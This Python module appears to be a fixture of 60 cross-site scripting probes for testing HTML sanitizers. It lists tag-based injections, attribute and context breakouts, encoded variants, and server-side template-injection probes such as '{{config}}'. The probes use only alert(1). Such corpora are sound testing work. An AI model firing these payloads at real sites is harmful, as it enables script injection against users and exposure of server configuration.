"""Sixty texts that become scripts wherever a page takes them for markup. Each would open a dialog."""

_RUN = "alert(1)"
TAGS = [
    f"<script>{_RUN}</script>", f"<SCRIPT SRC=data:,{_RUN}></SCRIPT>", f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>", f'<img src="x" onerror="{_RUN}">', f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<body onload={_RUN}>", f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>", f"<a href=javascript:{_RUN}>x</a>", f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>", f"<marquee onstart={_RUN}>",
    f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>", f"<form><button formaction=javascript:{_RUN}>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>", f"<style>@import 'javascript:{_RUN}';</style>",
    f"<link rel=stylesheet href=javascript:{_RUN}>", f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    f"<base href=javascript:{_RUN}//>", f"<template><script>{_RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<table background=javascript:{_RUN}>", f"<keygen autofocus onfocus={_RUN}>",
]  # fmt: skip
BREAKERS = [
    f'"><script>{_RUN}</script>', f"'><script>{_RUN}</script>", f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"</pre><img src=x onerror={_RUN}>",
    f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'" autofocus onfocus="{_RUN}', f"` onerror=`{_RUN}",
    f'" style="background:url(javascript:{_RUN})', f"</summary></details><img src=x onerror={_RUN}>",
    f"</code></td></tr></table><svg onload={_RUN}>",
]  # fmt: skip
ODD = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}", "{{7*7}}{{config}}", "{% for x in [].__class__.__mro__ %}{{x}}{% endfor %}", "${alert(1)}",
    "#{alert(1)}", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"%3Cscript%3E{_RUN}%3C/script%3E", f"\u202e<script>{_RUN}</script>",
]  # fmt: skip
CORPUS = (*TAGS, *BREAKERS, *ODD)
assert len(CORPUS) == 60
